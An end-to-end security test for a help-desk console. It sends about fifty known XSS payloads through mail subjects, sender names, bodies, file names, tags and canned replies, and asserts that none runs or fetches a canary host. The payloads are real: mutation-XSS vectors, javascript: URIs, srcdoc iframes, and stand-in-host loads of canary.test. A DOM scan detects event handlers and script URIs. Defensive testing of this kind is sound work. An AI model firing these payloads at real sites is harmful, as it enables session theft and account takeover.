// What strangers write, in a real browser whose content security policy is
// switched off, so that only the console's own care is left: nothing of it may
// run or fetch. SMTP=HOST:PORT node e2e/hostile.mjs DESK
import assert from 'node:assert/strict';
import { as, signIn, until } from './browser.mjs';
import { desk, fits, flows } from './flow.mjs';
import { deliver, mail } from './mail.mjs';
import { settled } from './screens.mjs';

const CANARY = 'https://canary.test/xss';
// From OWASP's cheat sheet, DOMPurify's and Cure53's mXSS, PortSwigger's.
const corpus = [
  '<script>__xss(1)</script>',
  '<ScRiPt src=//canary.test/xss.js></sCrIpT>',
  '"><script>__xss(1)</script>',
  "'-__xss(1)-'",
  '</title><script>__xss(1)</script>',
  '</textarea><img src=x onerror=__xss(1)>',
  '<img src=x onerror=__xss(1)>',
  '<img src="x` `<script>__xss(1)</script>"` `>',
  '<img/src=`x`onerror=__xss(1)>',
  '<IMG """><SCRIPT>__xss(1)</SCRIPT>">',
  '<img src="javascript:__xss(1)">',
  '<svg onload=__xss(1)>',
  '<svg/onload=&#95;_xss(1)>',
  '<svg><script>&#95;_xss(1)</script></svg>',
  '<svg><animate xlink:href=#x attributeName=href values=javascript:__xss(1) /><a id=x><text y=20>press</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=__xss(1) /></svg>#x" /></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=__xss(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__xss(1)&gt;">',
  '<math><mi><table><mglyph><svg><mtext><style><path id="</style><img onerror=__xss(1) src>">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=__xss(1) src>">',
  '<noscript><p title="</noscript><img src=x onerror=__xss(1)>">',
  '<noembed><img title="</noembed><img src onerror=__xss(1)>"></noembed>',
  '<xmp><p title="</xmp><svg/onload=__xss(1)>">',
  '<template><script>__xss(1)</script></template>',
  '<body onload=__xss(1)>',
  '<input autofocus onfocus=__xss(1)>',
  '<details open ontoggle=__xss(1)>x</details>',
  '<video><source onerror=__xss(1)></video>',
  '<audio src=x onerror=__xss(1)>',
  '<marquee onstart=__xss(1)>x</marquee>',
  '<div style="animation-name:x" onanimationstart=__xss(1)>x</div><style>@keyframes x{}</style>',
  '<a href="javascript:__xss(1)">press</a>',
  '<a href="jav&#x09;ascript:__xss(1)">press</a>',
  '<a href="\u0001javascript:__xss(1)">press</a>',
  '<a href="data:text/html,<script>__xss(1)</script>">press</a>',
  '<a href="vbscript:__xss(1)">press</a>',
  '<iframe srcdoc="<script>parent.__xss(1)</script>"></iframe>',
  '<iframe src="javascript:parent.__xss(1)"></iframe>',
  '<object data="javascript:__xss(1)"></object><embed src="//canary.test/xss.swf">',
  '<meta http-equiv=refresh content="0;url=https://canary.test/xss">',
  '<base href="https://canary.test/xss/"><link rel=stylesheet href="https://canary.test/xss.css">',
  '<style>@import "https://canary.test/xss.css";body{background:url(https://canary.test/xss.png)}</style>',
  '<div style="background-image:url(https://canary.test/xss.png)">x</div><table background="https://canary.test/xss.png"><tr><td>x</table>',
  '<img srcset="https://canary.test/xss.png 1x"><picture><source srcset="https://canary.test/xss.png"></picture><video poster="https://canary.test/xss.png"></video>',
  '<form action="https://canary.test/xss"><button>press</button></form>',
  '{{constructor.constructor("__xss(1)")()}} ${__xss(1)} #{__xss(1)} <%= __xss(1) %>',
  '\u202e<script>__xss(1)</script>\u2066exe.fdp\u2069',
  '<x/onclick=__xss(1)>press\u0000</x>',
];
const odd = {
  long: 'Subject without end '.repeat(500).trim(),
  rtl: 'طلبي لم يصل بعد \u202eevil\u202c',
  emoji: '👩‍👩‍👧‍👦🏳️‍🌈'.repeat(12),
};

await flows(async ({ browser, step }) => {
  const tail = Date.now().toString(36);
  const to = 'soporte@tienda.test';
  const page = await signIn(browser, desk, { agent: 'marta', bypassCSP: true, quiet: true });
  const ran = [];
  await page.context().exposeBinding('__xss', ({ frame }) => ran.push(`script ran in ${frame.url()}`));
  page.on('dialog', (d) => (ran.push(`dialog ${d.message()}`), d.dismiss()));
  page.context().on('page', (p) => ran.push(`a window opened: ${p.url()}`));
  let images = false;
  page.on('request', (r) => {
    if (r.url().includes('canary.test') && !(images && r.resourceType() === 'image')) ran.push(`${r.resourceType()} ${r.url()}`);
  });
  await page.context().route(/canary\.test/, (route) => route.abort());
  await page.reload(); // the binding is there from the beginning of a page
  await page.waitForSelector('[role=list] a');
  const quiet = (where) => assert.deepEqual(ran, [], where);
  const call = (method, path, body, more) => as(page, method, path, body, more);
  const go = async (path, shown) => {
    await page.evaluate((p) => history.pushState({}, '', p), '/console' + path);
    await page.locator(shown).first().waitFor();
    await settled(page);
  };
  /** bad is what of the document, or of the frames in it, could run or fetch. */
  const bad = () =>
    page.evaluate(() => {
      const found = [];
      const look = (root, name) => {
        for (const e of root.querySelectorAll('*')) {
          if (name && /^(script|iframe|object|embed|form|base|link|math|svg|template)$/i.test(e.localName)) found.push(`${name}: <${e.localName}>`);
          for (const a of e.attributes) {
            if (/^on/i.test(a.name) || (/^(href|src|action|formaction|xlink:href|data)$/i.test(a.name) && /^[\s\u0000-\u001f]*(javascript|vbscript|data:text)/i.test(a.value))) found.push(`${name}: ${a.name}=${a.value}`);
          }
        }
      };
      look(document, '');
      for (const frame of document.querySelectorAll('iframe')) {
        if (/allow-scripts|allow-same-origin/.test(frame.sandbox.value) || !frame.hasAttribute('sandbox')) found.push(`sandbox="${frame.sandbox.value}"`);
        look(new DOMParser().parseFromString(frame.srcdoc, 'text/html').body, 'frame');
      }
      return found;
    });
  const clean = async (where) => {
    assert.deepEqual(await bad(), [], where);
    quiet(where);
  };
  const wide = (where) => fits(page, where);
  /** made are the tickets that mails become. */
  const made = async (mails) => {
    const open = async () => (await call('GET', '/tickets?limit=200')).tickets;
    const before = new Set((await open()).map((t) => t.id));
    await deliver(process.env.SMTP, mails);
    return until(async () => {
      const found = (await open()).filter((t) => !before.has(t.id));
      return found.length === mails.length && found;
    }, 'the mails became tickets');
  };
  let mine = [];

  await step(`${corpus.length} mails with a payload in subject, name, text, HTML and file name are taken`, async () => {
    const mails = corpus.map((x, i) => {
      const from = `x${i}.${tail}@hostile.test`;
      return { from, to, raw: mail({ from, to, name: x, subject: `${i} ${x}`, text: x, html: `<p><b>${i}</b></p>${x}<p>after</p>`, files: [{ name: `${x}.txt`, body: 'x' }] }) };
    });
    mine = await made(mails);
  });
  await step('nor do tags, fields, people, organisations and canned replies run', async () => {
    const x = '"><img src=x onerror=__xss(1)>';
    const { body: config, etag } = await call('GET', '/configuration', undefined, { whole: true });
    const name = { es: x, en: x };
    await call('PUT', '/configuration', { ...config, fields: [...(config.fields ?? []).filter((f) => f.id !== 'hostile'), { id: 'hostile', name, kind: 'text', customer: 'sees' }] }, { etag });
    await call('POST', '/canned-replies', { owner: 'everybody', name, text: name, tags: [x] });
    await call('POST', '/organizations', { name: `${tail} ${x}`, notes: x, segment: x, domains: [`${tail}.test`] });
    await call('POST', '/people', { name: x, address: `p@${tail}.test`, segment: x, region: x });
    const { id } = mine[0];
    const { etag: version } = await call('GET', `/tickets/${id}`, undefined, { whole: true });
    await call('PATCH', `/tickets/${id}`, { tags: ['"><svg onload=__xss(1)>', '<img src=x onerror=__xss(1)>'], fields: { hostile: x } }, { etag: version });
    await call('POST', `/tickets/${id}/messages`, { kind: 'note', text: corpus.join('\n').replaceAll('\u0000', '').replaceAll('\u0001', '') });
  });
  await step('the list shows it as text', async () => {
    await page.goto(desk + '/console/tickets');
    await page.waitForSelector('[role=list] a');
    await page.keyboard.press('g');
    await page.keyboard.press('8');
    await page.keyboard.press('/');
    await page.keyboard.type('__xss'); // beside it there may be many others
    await page.getByText('__xss(1)').first().waitFor();
    await clean('list');
    await wide('list');
  });
  await step('every ticket shows it as text, or in a frame that runs nothing, images allowed too', async () => {
    let framed = 0;
    for (const t of mine) {
      images = false;
      await go(`/tickets/${t.id}`, `article h1:has-text("${t.subject.split(' ')[0]} ")`);
      await page.locator('[role=log] section').first().waitFor();
      await clean(`ticket ${t.subject}`);
      const original = page.locator('[role=log] button[aria-expanded=false]', { hasText: /original/i });
      if (await original.count()) await original.first().click();
      await clean(`original of ${t.subject}`);
      framed += await page.locator('[role=log] iframe').count();
      images = true;
      for (const button of await page.getByRole('button', { name: /image/i }).all()) await button.click({ timeout: 2000 }).catch(() => undefined);
      for (const frame of page.frames().slice(1)) {
        for (const press of await frame.getByText('press').all()) await press.click({ timeout: 300, force: true, noWaitAfter: true }).catch(() => undefined);
      }
      await clean(`images of ${t.subject}`);
    }
    images = false;
    assert.ok(framed > corpus.length / 2, `only ${framed} mails were shown as HTML`);
  });
  await step('the panel, canned replies and history of a ticket', async () => {
    await go(`/tickets/${mine[0].id}`, 'article h1');
    await page.getByText('"><svg onload=__xss(1)>').first().waitFor();
    await page.keyboard.press('r');
    await page.keyboard.press('Control+/');
    await page.getByRole('dialog').getByText('onerror=__xss').first().click();
    await until(async () => (await page.locator('form[data-mode] textarea').first().inputValue()).includes('onerror=__xss'), 'the canned reply is in the answer');
    await clean('canned reply');
    await page.keyboard.press('Escape');
  });
  await step('customers, organisations and canned replies', async () => {
    const { people } = await call('GET', `/people?q=p@${tail}`);
    for (const p of people ?? []) await go(`/people/${p.id ?? p.person}`, 'h1');
    await clean('customer');
    for (const [path, shown] of [
      ['/people', 'main'],
      ['/organizations', 'main'],
      ['/tools/replies', 'main'],
      ['/settings/fields', 'main'],
      ['/settings/tags', 'main'],
      ['/dashboard', 'main'],
      ['/notifications', 'main'],
    ]) {
      await go(path, shown);
      await clean(path);
    }
  });
  await step('the quarantine', async () => {
    const from = `q.${tail}@hostile.test`;
    const all = corpus.join('<br>');
    await deliver(process.env.SMTP, [{ from, to, raw: mail({ from, to, name: corpus[6], subject: corpus[0], text: all, html: all, files: [{ name: corpus[6], body: 'x' }], headers: ['X-Desk-Verdicts: spam=FAIL'] }) }]);
    const held = await until(async () => (await call('GET', '/quarantine')).mails?.find((m) => JSON.stringify(m).includes(from)), 'the mail is held');
    await go('/quarantine', 'main');
    await page.getByText(corpus[0]).first().waitFor();
    await clean('quarantine');
    await go(`/quarantine/${held.id ?? held.mail}`, 'main h1, main h2');
    await clean('quarantined mail');
  });
  await step('a subject of 10,000 letters, right to left, emoji, no name and 2 MB of HTML stay readable', async () => {
    const from = (n) => `${n}.${tail}@odd.test`;
    const row = '<tr><td style="padding:4px">A line of a long newsletter with <b>words</b></td><td>12,50 €</td></tr>';
    const big = `<table>${row.repeat(Math.ceil(2_000_000 / row.length))}</table>`;
    const found = await made([
      ...Object.entries(odd).map(([n, subject]) => ({ from: from(n), to, raw: mail({ from: from(n), to, name: n === 'emoji' ? '' : subject.slice(0, 60), subject, text: subject, html: n === 'rtl' ? `<p dir=rtl>${subject}</p>` : undefined }) })),
      { from: from('big'), to, raw: mail({ from: from('big'), to, name: 'Big', subject: 'Two megabytes', text: 'A long newsletter', html: big }) },
    ]);
    for (const width of [1440, 390]) {
      await page.setViewportSize({ width, height: 844 });
      for (const t of found) {
        const began = Date.now();
        await go(`/tickets/${t.id}`, `article h1:has-text("${t.subject.slice(0, 6)}")`);
        await page.locator('[role=log] section').first().waitFor();
        await wide(`${t.subject.slice(0, 20)} at ${width}`);
        const high = await page.locator('article h1').evaluate((h) => h.parentElement.getBoundingClientRect().height);
        assert.ok(high <= 200, `the title is ${high} px high at ${width}`);
        if (process.env.SHOTS) await page.screenshot({ path: `${process.env.SHOTS}/odd-${t.subject.slice(0, 3)}-${width}.png` });
        assert.ok(Date.now() - began < 60_000);
      }
    }
    quiet('odd mails');
  });
});
